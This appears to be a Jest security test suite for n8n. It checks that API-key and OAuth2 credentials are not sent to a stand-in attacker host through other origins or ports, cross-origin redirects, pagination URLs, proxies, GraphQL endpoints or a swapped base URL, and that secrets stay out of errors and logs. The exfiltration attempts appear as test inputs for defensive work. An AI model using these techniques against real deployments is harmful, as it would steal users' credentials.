import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { N8nClient } from '../../tools/n8n/client';
import { items, nodeRun } from '../../tools/n8n/execution';
import { chain, workflowNode } from '../support/n8n/chain';
import { HostileService } from '../support/node/hostileService';
import { httpRequest, send, SENDER, type TypedCredential } from '../support/n8n/httpRequestNode';
import { N8nStack, NODE, NODE_TYPE } from '../support/n8n/n8nStack';
import { leaseN8n } from '../support/n8n/shared';

const WORKSPACE = 'business';
/** Of the HTTP Request node; version 1 takes no credentials of other nodes. */
const VERSIONS = [2, 3, 4, 4.1, 4.2, 4.3, 4.4, 4.5];

let stack: N8nStack;
let attacker: HostileService;
let apiKey: TypedCredential;
let oAuth2: TypedCredential;

beforeAll(async () => {
	attacker = await HostileService.start();
	stack = await N8nStack.start();
	apiKey = { type: 'linkAttributionApi', credential: await stack.apiKeyCredential(WORKSPACE) };
	const connected = await stack.oauthCredential(stack.app(WORKSPACE, true), {
		allowedHttpRequestDomains: 'domains',
	});
	await stack.connect(connected);
	oAuth2 = { type: 'linkAttributionOAuth2Api', credential: connected };
});

afterAll(async () => {
	await stack?.stop();
	await attacker?.close();
});

beforeEach(() => {
	stack.proxy.reset();
	attacker.requests.length = 0;
	attacker.authorizations.length = 0;
});

describe.each([
	['an API key', () => apiKey, /This credential is only sent to its 'Base URL'/],
	['OAuth2', () => oAuth2, /Domain not allowed/],
])('the n8n HTTP Request node with %s', (_, credential, refusal) => {
	// Another host: n8n's own limit, which protects OAuth2 tokens, compares host names only.
	const elsewhere = () => attacker.url.replace('127.0.0.1', 'localhost');

	it.each(VERSIONS)('version %d sends it only to the service', async (version) => {
		const execution = await httpRequest(stack, credential(), version, `${elsewhere()}/folders`);
		expect(execution.status).toBe('error');
		const { message, description } = nodeRun(execution, SENDER)?.error ?? {};
		expect(`${message} ${description}`).toMatch(refusal);
		expect(attacker.authorizations).toEqual([]);

		const own = await httpRequest(stack, credential(), version, `${stack.proxy.url}/folders`);
		expect(own.status).toBe('success');
		expect(stack.proxy.requests.at(-1)?.headers.authorization).toMatch(/^Bearer \S+/);
	});

	it.each(VERSIONS)('version %d does not send it to the target of a redirect', async (version) => {
		stack.proxy.respondNext({ status: 302, headers: { location: `${elsewhere()}/stolen` } });
		const options = {
			sendCredentialsOnCrossOriginRedirect: true,
			redirect: { redirect: { followRedirects: true } },
			followRedirect: true,
			followAllRedirects: true,
		};
		await httpRequest(stack, credential(), version, `${stack.proxy.url}/folders`, { options });
		expect(attacker.authorizations).toEqual([]);
	});
});

describe('an API key', () => {
	it('is not sent to another port of the same host', async () => {
		await httpRequest(stack, apiKey, 4.4, `${attacker.url}/folders`);
		expect(attacker.authorizations).toEqual([]);
	});

	it('is not sent to a pagination URL of another origin', async () => {
		const pagination = {
			paginationMode: 'responseContainsNextURL',
			nextURL: `${attacker.url}/stolen`,
			paginationCompleteWhen: 'other',
			completeExpression: '={{ $pageCount > 1 }}',
		};
		const options = { pagination: { pagination } };
		const url = `${stack.proxy.url}/folders`;
		const execution = await httpRequest(stack, apiKey, 4.4, url, { options });
		expect(JSON.stringify(nodeRun(execution, SENDER)?.error)).toContain('is only sent to');
		expect(attacker.authorizations).toEqual([]);
	});

	it('is not sent through a proxy set in the request', async () => {
		const options = { proxy: attacker.url };
		await httpRequest(stack, apiKey, 4.4, `${stack.proxy.url}/folders`, { options });
		expect(attacker.requests).toEqual([]);
	});

	it('is not sent to another origin by the GraphQL node', async () => {
		const { status } = await send(stack, apiKey, {
			type: 'n8n-nodes-base.graphql',
			typeVersion: 1,
			parameters: {
				authentication: 'predefinedCredentialType',
				nodeCredentialType: 'linkAttributionApi',
				endpoint: attacker.url,
				query: '{ x }',
			},
		});
		expect(status).toBe('error');
		expect(attacker.authorizations).toEqual([]);
	});

	it('is not sent to a redirect target when it is tested', async () => {
		stack.proxy.respondNext({ status: 302, headers: { location: `${attacker.url}/stolen` } });
		expect(await stack.n8n.client.testCredential(apiKey.credential.id)).toMatchObject({
			status: 'Error',
		});
		expect(stack.proxy.requests).toHaveLength(1);
		expect(attacker.requests).toEqual([]);
	});
});

it('an OAuth2 credential is not sent by the HTTP Request node unless a person allows it', async () => {
	const credential = await stack.oauthCredential(stack.app(WORKSPACE, false));
	await stack.connect(credential);
	const typed = { type: 'linkAttributionOAuth2Api', credential } as const;
	stack.proxy.reset();
	for (const [url, options] of [
		[`${stack.proxy.url}/folders`, {}],
		// These reach others if n8n compares only the host name.
		[`${attacker.url}/folders`, {}],
		[`${stack.proxy.url}/folders`, { proxy: attacker.url }],
	] as const) {
		const refused = await httpRequest(stack, typed, 4.4, url, { options });
		expect(refused.status).toBe('error');
	}
	expect(stack.proxy.requests).toEqual([]);
	expect(attacker.requests).toEqual([]);
	const run = { credential, authentication: 'oAuth2' } as const;
	const own = await stack.run({ resource: 'folder', operation: 'getAll' }, run);
	expect(own.status).toBe('success');
});

it.each([
	['apiKey', () => apiKey],
	['oAuth2', () => oAuth2],
] as const)(
	'a service that echoes the secret does not leak it into errors or logs: %s',
	async (authentication, credential) => {
		let secret = '';
		stack.proxy.respond = ({ headers }) => {
			secret = String(headers.authorization).replace('Bearer ', '');
			return {
				status: 403,
				body: { error: { code: 'forbidden', message: `Not allowed: ${headers.authorization}` } },
			};
		};
		const execution = await stack.run(
			{ resource: 'folder', operation: 'getAll' },
			{ credential: credential().credential, authentication },
		);
		expect(secret).toMatch(/^dub_/);
		const stored = JSON.stringify(execution);
		expect(stored).toContain('Not allowed: Bearer ***');
		expect(stored).not.toContain(secret);
		expect(readFileSync(stack.n8n.logFile, 'utf8')).not.toContain(secret);
	},
);

/** Signs in as another user, for whom the API key is shared for use only, as the Enterprise edition of n8n does it. */
async function signInAsSharee(): Promise<N8nClient> {
	const { url, logFile, user } = await leaseN8n();
	const sharee = new N8nClient(url);
	await sharee.signIn(user);
	const database = new DatabaseSync(join(dirname(logFile), '.n8n', 'database.sqlite'));
	database.exec('PRAGMA busy_timeout = 5000');
	database
		.prepare(
			`INSERT INTO shared_credentials (credentialsId, projectId, role)
			 SELECT ?, projectId, 'credential:user' FROM project_relation
			 WHERE userId = (SELECT id FROM user WHERE email = ?)`,
		)
		.run(apiKey.credential.id, user.email);
	database.close();
	return sharee;
}

it('a user with whom the credential is shared can use it, and neither read the key nor send it elsewhere', async () => {
	const sharee = await signInAsSharee();
	const { id, name } = apiKey.credential;
	const node = workflowNode(NODE, NODE_TYPE, 1, { resource: 'tag', operation: 'getAll' });
	const workflow = await sharee.createWorkflow({
		name: 'Shared',
		...chain([{ ...node, credentials: { linkAttributionApi: apiKey.credential } }]),
	});
	const execution = await sharee.runAndWait(workflow.id, { trigger: 'Start' });
	expect(items(execution, NODE).length).toBeGreaterThan(0);

	expect((await sharee.fetch('GET', `/rest/credentials/${id}?includeData=true`)).status).toBe(404);
	const data = { apiKey: '__n8n_BLANK_VALUE_', baseUrl: attacker.url };
	await sharee.fetch('POST', '/rest/credentials/test', {
		credentials: { id, name, type: 'linkAttributionApi', data },
	});
	expect(attacker.requests).toEqual([]);
});
